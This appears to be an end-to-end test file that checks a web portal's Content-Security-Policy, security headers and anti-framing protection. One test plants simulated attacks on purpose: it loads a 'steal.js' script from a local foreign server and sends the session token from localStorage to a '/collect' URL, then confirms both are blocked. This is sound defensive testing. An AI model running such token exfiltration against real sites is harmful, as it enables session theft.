import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { REMOTE_NAMES } from '@portal/contracts';
import { contentSecurityPolicy } from '@portal/kit/build';
import { freePort } from '@portal/service-kit/testing/ports';
import { activeScreen, dialog, logIn, openMenuEntry, visible } from './journeys.js';
import { DEMO_PASSWORD, startPortal, type PortalUnderTest } from './portal-under-test.js';

let portal: PortalUnderTest;
/**
 * A site on an origin the portal does not know (127.0.0.1, where the portal is on localhost): its
 * `/frame` page frames the portal; every other request is what a page of the portal would leak to it.
 */
let foreign: { server: Server; origin: string; hits: string[] };

beforeAll(async () => {
  portal = await startPortal();
  const hits: string[] = [];
  const server = createServer((request, response) => {
    if (request.url === '/frame') {
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      response.end(`<!doctype html><title>ailleurs</title><iframe title="portail" src="${portal.url}/"></iframe>`);
      return;
    }
    hits.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
    response.end('window.foreignScriptRan = true;');
  });
  const port = await freePort();
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  foreign = { server, origin: `http://127.0.0.1:${port}`, hits };
}, 180_000);
afterAll(async () => {
  foreign?.server.closeAllConnections();
  await new Promise<void>((resolve) => (foreign ? foreign.server.close(() => resolve()) : resolve()));
  await portal?.stop();
}, 60_000);

/** A violation as the page reports it, with where the offending code is (to find it when one appears). */
type Violation = { directive: string; blocked: string; document: string; source: string };
type WatchedPage = { page: Page; violations: Violation[]; cspConsoleErrors: string[] };

/**
 * A page that reports every Content-Security-Policy violation, both ways the browser tells them: the
 * `securitypolicyviolation` event of each document it loads, and its console error.
 */
async function watchedPage(): Promise<WatchedPage> {
  const page = await portal.newPage();
  const violations: Violation[] = [];
  const cspConsoleErrors: string[] = [];
  await page.exposeFunction('reportCspViolation', (violation: Violation) => void violations.push(violation));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const report = (window as unknown as { reportCspViolation: (violation: Violation) => void }).reportCspViolation;
      report({
        directive: event.effectiveDirective,
        blocked: event.blockedURI,
        document: event.documentURI,
        source: `${event.sourceFile}:${event.lineNumber}:${event.columnNumber}`,
      });
    });
  });
  page.on('console', (message) => {
    if (message.type() === 'error' && /Content Security Policy/i.test(message.text())) {
      cspConsoleErrors.push(message.text());
    }
  });
  return { page, violations, cspConsoleErrors };
}

/** A blank 1×1 PNG for every map tile: the tile server is a third party, mocked here. */
const BLANK_TILE = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
  'base64',
);

describe('security headers of the portal and the remotes', () => {
  it("the shell's page carries the policy made of the config served, and every file the security headers", async () => {
    const page = await fetch(`${portal.url}/`);
    expect(page.status).toBe(200);
    const policy = page.headers.get('content-security-policy') ?? '';
    expect(policy).toBe(contentSecurityPolicy(portal.config));
    const scriptSources = /script-src ([^;]+)/.exec(policy)?.[1]?.split(' ');
    // The page's own origin, the remotes', and Stripe.js's (the local fake's, for the payment forms).
    expect(scriptSources).toEqual([
      "'self'",
      ...REMOTE_NAMES.map((name) => new URL(portal.config.remotes[name]).origin),
      new URL(portal.config.stripe?.jsUrl ?? '').origin,
    ]);
    expect(policy).toContain("frame-ancestors 'none'");

    const admin = portal.remoteServers.get('mf_admin');
    if (!admin) throw new Error('mf_admin is not served');
    const manifest = (await (await fetch(`${admin.url}/mf-manifest.json`)).json()) as {
      metaData: { remoteEntry: { name: string } };
    };
    const answers = {
      shell: page,
      shellConfig: await fetch(`${portal.url}/portal.config.json`),
      remotePage: await fetch(`${admin.url}/`),
      remoteManifest: await fetch(`${admin.url}/mf-manifest.json`, { headers: { origin: portal.url } }),
      remoteEntry: await fetch(`${admin.url}/${manifest.metaData.remoteEntry.name}`, {
        headers: { origin: portal.url },
      }),
      missing: await fetch(`${admin.url}/nulle-part.js`),
    };
    for (const [what, response] of Object.entries(answers)) {
      expect([what, response.headers.get('x-content-type-options')]).toEqual([what, 'nosniff']);
      expect([what, response.headers.get('referrer-policy')]).toEqual([what, 'strict-origin-when-cross-origin']);
      expect([what, response.headers.get('x-frame-options')]).toEqual([what, 'DENY']);
    }
    // The remote's files stay loadable from the shell's origin.
    expect(answers.remoteManifest.headers.get('access-control-allow-origin')).toBe('*');
    expect(answers.remoteEntry.headers.get('access-control-allow-origin')).toBe('*');
    expect(answers.remoteEntry.headers.get('content-security-policy')).toBeNull();
    // A remote's standalone page is held by the same policy.
    expect(answers.remotePage.headers.get('content-security-policy')).toBe(contentSecurityPolicy(portal.config));
  });

  it('the owner works in the four remotes (map included) with no violation, and the styles apply', async () => {
    const { page, violations, cspConsoleErrors } = await watchedPage();
    let tilesServed = 0;
    await page.route('https://tile.openstreetmap.org/**', async (route) => {
      tilesServed += 1;
      await route.fulfill({ status: 200, contentType: 'image/png', body: BLANK_TILE });
    });
    await logIn(page, portal.url, 'proprietaire@vigie-demo.fr');

    // mf-planning, with the site's map and its tiles.
    await openMenuEntry(page, 'Tableau de bord');
    await visible(activeScreen(page).getByText('Contrôles du planning'));
    await openMenuEntry(page, 'Sites');
    await visible(activeScreen(page).getByRole('cell', { name: 'Résidence Les Oliviers – Bâtiment A' }));
    await activeScreen(page).getByRole('button', { name: 'Nouveau site' }).click();
    const siteDialog = dialog(page, 'Nouveau site');
    await visible(siteDialog);
    await siteDialog.getByRole('tab', { name: 'Adresse' }).click();
    await visible(siteDialog.getByLabel('Carte du site'));
    await expect.poll(() => tilesServed, { timeout: 10_000 }).toBeGreaterThan(0);
    await siteDialog.getByRole('button', { name: 'Annuler' }).click();
    await openMenuEntry(page, 'Photos des sites');
    await openMenuEntry(page, 'Collaborateurs');
    await visible(activeScreen(page).getByRole('cell', { name: 'agent@vigie-demo.fr' }));
    // mf-field.
    await openMenuEntry(page, 'Réglages terrain');
    await visible(activeScreen(page).getByText('Fréquence du contrôle travailleur isolé (PTI)'));
    // mf-commercial.
    await openMenuEntry(page, 'Synthèse');
    await visible(activeScreen(page).getByText('Synthèse de la facturation'));
    await openMenuEntry(page, 'Clients');
    await visible(activeScreen(page).getByRole('cell', { name: 'Résidence Les Oliviers' }));
    // mf-admin.
    await openMenuEntry(page, 'À propos');
    await visible(activeScreen(page).getByText('Module Administration'));

    // antd's CSS-in-JS took effect: the primary button is painted in the theme's blue.
    await openMenuEntry(page, 'Clients');
    const addCustomer = activeScreen(page).getByRole('button', { name: 'Ajouter un client' });
    await visible(addCustomer);
    expect(await addCustomer.evaluate((button) => getComputedStyle(button).backgroundColor)).toBe('rgb(22, 119, 255)');
    // What the policy allows beyond the screens: a blob image (site photos), a blob worker (Excel export).
    const allowed = await page.evaluate(async () => {
      const png = Uint8Array.from(
        atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII='),
        (c) => c.charCodeAt(0),
      );
      const image = new Image();
      const imageLoaded = new Promise<boolean>((resolve) => {
        image.onload = () => resolve(true);
        image.onerror = () => resolve(false);
      });
      image.src = URL.createObjectURL(new Blob([png], { type: 'image/png' }));
      const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(6 * 7)'], { type: 'text/javascript' })));
      const answer = await new Promise<unknown>((resolve) => {
        worker.onmessage = (event) => resolve(event.data);
        worker.onerror = () => resolve('refused');
      });
      worker.terminate();
      return { image: await imageLoaded, worker: answer };
    });
    expect(allowed).toEqual({ image: true, worker: 42 });

    expect(violations).toEqual([]);
    expect(cspConsoleErrors).toEqual([]);
    await page.context().close();
  }, 120_000);

  it("a remote's standalone page works under its policy with no violation", async () => {
    const admin = portal.remoteServers.get('mf_admin');
    if (!admin) throw new Error('mf_admin is not served');
    const { page, violations, cspConsoleErrors } = await watchedPage();
    await page.goto(admin.url);
    await page.getByLabel('Adresse e-mail').fill('proprietaire@vigie-demo.fr');
    await page.getByLabel('Mot de passe').fill(DEMO_PASSWORD);
    await page.getByRole('button', { name: 'Se connecter' }).click();
    await page.getByRole('menuitem', { name: 'À propos' }).click();
    await visible(page.getByText("Version de l'application"));
    expect(violations).toEqual([]);
    expect(cspConsoleErrors).toEqual([]);
    await page.context().close();
  });

  it('the policy bites: inline and foreign scripts, eval, calls and images elsewhere are blocked and reported', async () => {
    const { page, violations, cspConsoleErrors } = await watchedPage();
    await logIn(page, portal.url, 'proprietaire@vigie-demo.fr');
    const outcome = await page.evaluate(async (origin) => {
      const inline = document.createElement('script');
      inline.textContent = 'window.inlineScriptRan = true;';
      document.head.append(inline);
      const external = await new Promise<string>((resolve) => {
        const script = document.createElement('script');
        script.src = `${origin}/steal.js`;
        script.onload = () => resolve('loaded');
        script.onerror = () => resolve('blocked');
        document.head.append(script);
      });
      const session = localStorage.getItem('portal.session') ?? '';
      const call = await fetch(`${origin}/collect?session=${encodeURIComponent(session)}`).then(
        () => 'sent',
        () => 'blocked',
      );
      const image = await new Promise<string>((resolve) => {
        const pixel = new Image();
        pixel.onload = () => resolve('loaded');
        pixel.onerror = () => resolve('blocked');
        pixel.src = `${origin}/pixel.png`;
      });
      let evaluated: string;
      try {
        evaluated = String(eval('6 * 7'));
      } catch {
        evaluated = 'blocked';
      }
      const flags = window as unknown as { inlineScriptRan?: boolean; foreignScriptRan?: boolean };
      return {
        inline: flags.inlineScriptRan ?? false,
        foreign: flags.foreignScriptRan ?? false,
        external,
        call,
        image,
        evaluated,
      };
    }, foreign.origin);

    expect(outcome).toEqual({
      inline: false,
      foreign: false,
      external: 'blocked',
      call: 'blocked',
      image: 'blocked',
      evaluated: 'blocked',
    });
    // Blocked before leaving the browser: the foreign server never heard of the page.
    expect(foreign.hits).toEqual([]);
    await expect
      .poll(() => violations.map((violation) => `${violation.directive} ${violation.blocked.split('?')[0]}`).sort())
      .toEqual(
        [
          `connect-src ${foreign.origin}/collect`,
          `img-src ${foreign.origin}/pixel.png`,
          `script-src-elem ${foreign.origin}/steal.js`,
          'script-src-elem inline',
          'script-src eval',
        ].sort(),
      );
    expect(cspConsoleErrors.length).toBeGreaterThanOrEqual(5);
    await page.context().close();
  });

  it('no other origin may frame the portal', async () => {
    const { page } = await watchedPage();
    await page.goto(`${foreign.origin}/frame`);
    const framed = page.frames().find((frame) => frame !== page.mainFrame());
    if (!framed) throw new Error('no frame');
    await framed.waitForLoadState('load');
    // The browser refused to render the portal there: no login form in the frame.
    expect(await framed.locator('#root').count()).toBe(0);
    expect(await page.frameLocator('iframe').getByLabel('Adresse e-mail').count()).toBe(0);
    await page.context().close();
  });

  it('the policy follows portal.config.json: a remote repointed elsewhere is allowed at the next load', async () => {
    const { page, violations, cspConsoleErrors } = await watchedPage();
    await logIn(page, portal.url, 'proprietaire@vigie-demo.fr');
    const previous = portal.config.remotes.mf_admin;
    const moved = await portal.serveRemote('mf_admin', await freePort());
    portal.config.remotes.mf_admin = `${moved.url}/mf-manifest.json`;
    try {
      const reloaded = await page.reload();
      const policy = (await reloaded?.headerValue('content-security-policy')) ?? '';
      expect(policy).toContain(`script-src 'self'`);
      expect(policy).toContain(moved.url);
      expect(policy).not.toContain(new URL(previous).origin);
      await openMenuEntry(page, 'À propos');
      await visible(activeScreen(page).getByText('Module Administration'));
      expect(
        await page.evaluate(
          (origin) => performance.getEntriesByType('resource').some((entry) => entry.name.startsWith(origin)),
          moved.url,
        ),
      ).toBe(true);
    } finally {
      portal.config.remotes.mf_admin = previous;
      await moved.close();
    }
    expect(violations).toEqual([]);
    expect(cspConsoleErrors).toEqual([]);
    await page.context().close();
  });
});
